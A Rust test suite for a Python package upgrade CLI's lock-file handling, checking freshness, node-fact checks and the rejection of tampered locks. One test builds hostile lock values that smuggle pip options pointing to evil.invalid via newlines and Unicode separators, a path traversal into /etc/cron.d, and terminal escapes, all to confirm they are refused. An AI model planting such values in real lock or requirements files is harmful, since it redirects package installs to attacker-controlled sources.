//! A lock that is a lock: `plan --lock` and `apply --lock` install exactly a lock
//! (refused when the manifest's inputs changed since, or it does not hold on the node),
//! the lock beside the manifest serves every verb while it is fresh, and `lock
//! --check` exits 4 when the manifest or the indexes no longer give it.
//!
//! See: issue 19 — `lock` wrote a file nothing read; issue 34 — a comment edit staled
//! a lock, and only the shipped stack planned without flags.
#![expect(
    clippy::unwrap_used,
    reason = "a test fails loudly at the first surprise"
)]

mod common;

use std::path::{Path, PathBuf};

use common::cli::{
    H200_FACTS, on_h200, stderr, stdout, torch_snapshot as snapshot, upgrade, venv_manifest,
};

/// A manifest for the H200's venv (`/opt/torch/.venv`) asking for `torch` `spec`.
fn manifest(dir: &Path, name: &str, spec: &str) -> PathBuf {
    venv_manifest(
        dir,
        name,
        &format!(
            "indexes:\n  - name: local\n    url: http://127.0.0.1:9/simple/\npackages:\n  torch: \"{spec}\"\n"
        ),
    )
}

/// `upgrade lock MANIFEST --facts H200 --snapshot SNAPSHOT --format json -o LOCK`.
fn write_lock(manifest: &Path, snapshot: &Path, lock: &Path) {
    let output = on_h200(
        "lock",
        manifest,
        &[
            "--snapshot",
            snapshot.to_str().unwrap(),
            "--format",
            "json",
            "-o",
            lock.to_str().unwrap(),
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

/// In `dir`: manifest `m` asking for `torch>=2.9`, snapshot `old` offering 2.9.1, and
/// the lock of the two at `m.lock.json` (the default lock file beside the manifest).
fn locked(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    locked_at(dir, "m.lock.json")
}

/// [`locked`], the lock written to `dir/name`.
fn locked_at(dir: &Path, name: &str) -> (PathBuf, PathBuf, PathBuf) {
    let manifest = manifest(dir, "m", ">=2.9");
    let old = snapshot(dir, "old", &["2.9.1"]);
    let lock = dir.join(name);
    write_lock(&manifest, &old, &lock);
    (manifest, old, lock)
}

/// The lock records the manifest's digest; `plan --lock` installs exactly the lock,
/// whatever the snapshot now offers: no resolution; so does `plan` with no flag once
/// that lock lies beside the manifest.
#[test]
fn plan_installs_exactly_the_lock() {
    let dir = tempfile::tempdir().unwrap();
    let (manifest, _, lock) = locked_at(dir.path(), "pinned.lock.json");
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    let text = std::fs::read_to_string(&manifest).unwrap();
    assert_eq!(
        json["manifest_sha256"].as_str().unwrap(),
        hex_sha256(text.as_bytes())
    );
    // A newer torch is offered now: resolving picks it, the lock keeps 2.9.1.
    let new = snapshot(dir.path(), "new", &["2.9.1", "2.10.0"]);
    let plan = |extra: &[&str]| {
        let mut args = vec!["--snapshot", new.to_str().unwrap(), "--format", "json"];
        args.extend_from_slice(extra);
        let output = on_h200("plan", &manifest, &args);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap()
    };
    let resolved = plan(&[]);
    // The H200's venv has torch 2.11.0: both are downgrades.
    assert_eq!(resolved["packages"]["downgrade"][0]["to"], "2.10.0");
    let locked = plan(&["--lock", lock.to_str().unwrap()]);
    assert_eq!(
        locked["packages"]["downgrade"][0],
        serde_json::json!({"name": "torch", "from": "2.11.0", "to": "2.9.1"}),
    );
    // Beside the manifest, the lock is what every verb reads while it is fresh.
    std::fs::copy(&lock, dir.path().join("m.lock.json")).unwrap();
    let beside = plan(&[]);
    assert_eq!(
        beside["packages"]["downgrade"][0]["to"], "2.9.1",
        "{beside}"
    );
    let output = on_h200("plan", &manifest, &["--snapshot", new.to_str().unwrap()]);
    assert!(
        stderr(&output).contains("m.lock.json (fresh)"),
        "{}",
        stderr(&output)
    );
}

fn hex_sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// A lock stays fresh through edits that change nothing it depends on (a comment, an
/// `env` entry); a changed pin refuses it, naming the change and the command that
/// refreshes it; so is a lock of an earlier build that records no inputs, and a text
/// lock.
#[test]
fn a_lock_is_fresh_by_meaning_and_a_changed_pin_refuses_it() {
    let dir = tempfile::tempdir().unwrap();
    let (manifest, _, lock) = locked(dir.path());
    let mut text = std::fs::read_to_string(&manifest).unwrap();
    text.push_str("# edited after locking\nenv:\n  NCCL_DEBUG: WARN\n");
    std::fs::write(&manifest, &text).unwrap();
    let plan = |lock: &Path| on_h200("plan", &manifest, &["--lock", lock.to_str().unwrap()]);
    let output = plan(&lock);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = on_h200("lock", &manifest, &["--locked"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains("fresh"), "{}", stdout(&output));

    std::fs::write(&manifest, text.replace(">=2.9", "==2.9.1")).unwrap();
    let output = plan(&lock);
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    let error = stderr(&output);
    assert!(error.contains("package torch: >=2.9 → ==2.9.1"), "{error}");
    assert!(error.contains("refreshes it"), "{error}");
    let output = on_h200("plan", &manifest, &["--locked"]);
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    assert!(
        stderr(&output).contains("package torch"),
        "{}",
        stderr(&output)
    );
    let output = on_h200("lock", &manifest, &["--locked"]);
    assert_eq!(output.status.code(), Some(4), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("package torch: >=2.9 → ==2.9.1"),
        "{}",
        stdout(&output)
    );
    // `apply` refuses it the same way, after the probe and before any change.
    let output = upgrade(&[
        "apply",
        manifest.to_str().unwrap(),
        "--local",
        "--yes",
        "--no-verify",
        "--lock",
        lock.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    assert!(
        stderr(&output).contains("Refusing lock") && stderr(&output).contains("package torch"),
        "{}",
        stderr(&output)
    );
    // `--frozen` takes it as it is.
    let output = on_h200("plan", &manifest, &["--frozen"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    let mut earlier: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    earlier.as_object_mut().unwrap().remove("inputs");
    let earlier_path = dir.path().join("earlier.lock.json");
    std::fs::write(&earlier_path, earlier.to_string()).unwrap();
    std::fs::write(&manifest, &text).unwrap();
    let output = plan(&earlier_path);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("records no inputs"),
        "{}",
        stderr(&output)
    );

    let text_lock = dir.path().join("m.lock");
    std::fs::write(&text_lock, "# lock of `m` (1 packages)\n").unwrap();
    let output = plan(&text_lock);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("--format json -o FILE"),
        "{}",
        stderr(&output)
    );
}

/// A lock resolved for another node is refused where it does not hold, naming each
/// fact: the Python line, the driver, a GPU architecture it was not resolved for.
#[test]
fn a_lock_that_does_not_hold_on_the_node_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let (manifest, _, lock) = locked(dir.path());
    let mut facts: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(H200_FACTS).unwrap()).unwrap();
    facts["python"]["version"] = serde_json::json!("3.11.9");
    facts["driver"]["version"] = serde_json::json!("575.57.08");
    facts["gpus"][0]["compute_capability"] = serde_json::json!("10.0");
    let other = dir.path().join("other.facts.json");
    std::fs::write(&other, facts.to_string()).unwrap();
    let output = upgrade(&[
        "plan",
        manifest.to_str().unwrap(),
        "--facts",
        other.to_str().unwrap(),
        "--lock",
        lock.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    let error = stderr(&output);
    for fact in [
        "python: the lock was resolved for Python 3.12.3, the node's interpreter is 3.11.9",
        "driver: the lock was resolved for NVIDIA driver 580.159.04, the node has 575.57.08",
        "gpu_arch: the node's sm_100 is not among the lock's [sm_90]",
    ] {
        assert!(error.contains(fact), "{fact}\n{error}");
    }
}

/// `lock --check` resolves again: 0 while the lock matches, 4 when the indexes offer
/// another release or the manifest changed, each difference printed (package, locked
/// vs now).
#[test]
fn lock_check_exits_4_when_the_lock_is_out_of_date() {
    let dir = tempfile::tempdir().unwrap();
    // The default lock file of `--check`: `NAME.lock.json` beside the manifest.
    let (manifest, old, lock) = locked(dir.path());
    let check = |snapshot: &Path, extra: &[&str]| {
        let mut args = vec!["--snapshot", snapshot.to_str().unwrap(), "--check"];
        args.extend_from_slice(extra);
        on_h200("lock", &manifest, &args)
    };
    let output = check(&old, &[]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains("matches"), "{}", stdout(&output));

    let new = snapshot(dir.path(), "new", &["2.9.1", "2.10.0"]);
    let output = check(&new, &[]);
    let text = stdout(&output);
    assert_eq!(output.status.code(), Some(4), "{text}{}", stderr(&output));
    assert!(
        text.contains("  torch: locked 2.9.1 from local (torch-2.9.1-cp312"),
        "{text}"
    );
    assert!(text.contains(", now 2.10.0 from local"), "{text}");
    let json: serde_json::Value = serde_json::from_slice(
        &check(
            &new,
            &["--lock", lock.to_str().unwrap(), "--format", "json"],
        )
        .stdout,
    )
    .unwrap();
    assert_eq!(json["matches"], false, "{json}");
    assert_eq!(json["differences"][0]["what"], "torch", "{json}");

    std::fs::write(
        &manifest,
        std::fs::read_to_string(&manifest)
            .unwrap()
            .replace(">=2.9", "==2.9.1"),
    )
    .unwrap();
    let output = check(&old, &[]);
    assert_eq!(output.status.code(), Some(4));
    assert!(
        stdout(&output).contains("manifest: locked (none), now package torch: >=2.9 → ==2.9.1"),
        "{}",
        stdout(&output)
    );
    // A missing lock file is an error (2), not a difference.
    let output = check(&old, &["--lock", "/nonexistent/m.lock.json"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
}

/// An edit that makes a good lock hostile.
type Edit = dyn Fn(&mut serde_json::Value);

/// A lock is input like a manifest: every value goes through its type's checks when
/// read, and a refused one is named with its line and column, escaped. `plan --lock`
/// and `export` read it through the same reader. A lock that records the manifest's
/// digest but builds another git source than the manifest names is refused too.
///
/// See: issue 33 — a newline in a lock's version put pip options into root's
/// requirements file; an empty or non-hex digest was exported as it was.
#[test]
fn hostile_locks_are_refused_where_they_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let (manifest, _, lock) = locked(dir.path());
    let good: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    let cases: [(&str, &Edit); 11] = [
        ("version", &|lock| {
            lock["packages"][0]["version"] =
                "2.9.1\n--extra-index-url https://evil.invalid/simple".into()
        }),
        ("name", &|lock| {
            lock["packages"][0]["name"] = "torch\u{2028}-e git+https://evil.invalid/x".into()
        }),
        ("file", &|lock| {
            lock["packages"][0]["file"] = "../../etc/cron.d/torch-2.9.1-py3-none-any.whl".into()
        }),
        ("file escape", &|lock| {
            lock["packages"][0]["file"] = "torch-2.9.1-py3-none-\u{1b}[2Jany.whl".into()
        }),
        ("empty digest", &|lock| {
            lock["packages"][0]["sha256"] = "".into()
        }),
        ("non-hex digest", &|lock| {
            lock["packages"][0]["sha256"] = "z".repeat(64).into()
        }),
        ("manifest name", &|lock| {
            lock["manifest"] = "m\u{85}--trusted-host evil.invalid".into()
        }),
        ("index", &|lock| {
            lock["packages"][0]["index"] = "local\n-r https://evil.invalid/r.txt".into()
        }),
        ("assumed python", &|lock| {
            lock["assumed"]["python"] = "3.12\n--extra-index-url https://evil.invalid/".into()
        }),
        ("assumed glibc", &|lock| {
            lock["assumed"]["glibc"] = "2.39\u{2028}x".into()
        }),
        ("manifest digest", &|lock| {
            lock["manifest_sha256"] = "aa".into()
        }),
    ];
    for (what, edit) in cases {
        let mut hostile = good.clone();
        edit(&mut hostile);
        let text = serde_json::to_string_pretty(&hostile).unwrap();
        std::fs::write(&lock, &text).unwrap();
        for output in [
            on_h200("plan", &manifest, &["--lock", lock.to_str().unwrap()]),
            upgrade(&[
                "export",
                lock.to_str().unwrap(),
                "--manifest",
                manifest.to_str().unwrap(),
                "--format",
                "requirements-txt",
            ]),
        ] {
            assert_eq!(output.status.code(), Some(2), "{what}: {}", stdout(&output));
            let error = stderr(&output);
            assert!(error.contains("at line "), "{what}: {error}");
            assert!(
                !error.contains(['\u{1b}', '\u{2028}', '\u{85}']) && !error.contains("\n--"),
                "{what}: {error}"
            );
            assert!(stdout(&output).is_empty(), "{what}");
        }
    }
    // The manifest's digest, but another git source than the manifest's.
    let git_manifest = venv_manifest(
        dir.path(),
        "g",
        "indexes:\n  - name: local\n    url: http://127.0.0.1:9/simple/\npackages:\n  torch: \">=2.9\"\n  app: { git: \"https://example.invalid/app\", rev: v1.0, version: \"1.0\" }\n",
    );
    let git_lock = dir.path().join("g.lock.json");
    let mut hostile = good.clone();
    hostile["manifest_sha256"] = hex_sha256(&std::fs::read(&git_manifest).unwrap()).into();
    hostile["packages"].as_array_mut().unwrap().push(
        serde_json::json!({"name": "app", "version": "1.0", "source": "git",
            "url": "https://evil.invalid/app", "rev": "v1.0"}),
    );
    std::fs::write(&git_lock, serde_json::to_string(&hostile).unwrap()).unwrap();
    let output = on_h200(
        "plan",
        &git_manifest,
        &["--lock", git_lock.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
    let error = stderr(&output);
    assert!(
        error.contains("builds `app` from `https://evil.invalid/app`"),
        "{error}"
    );
}
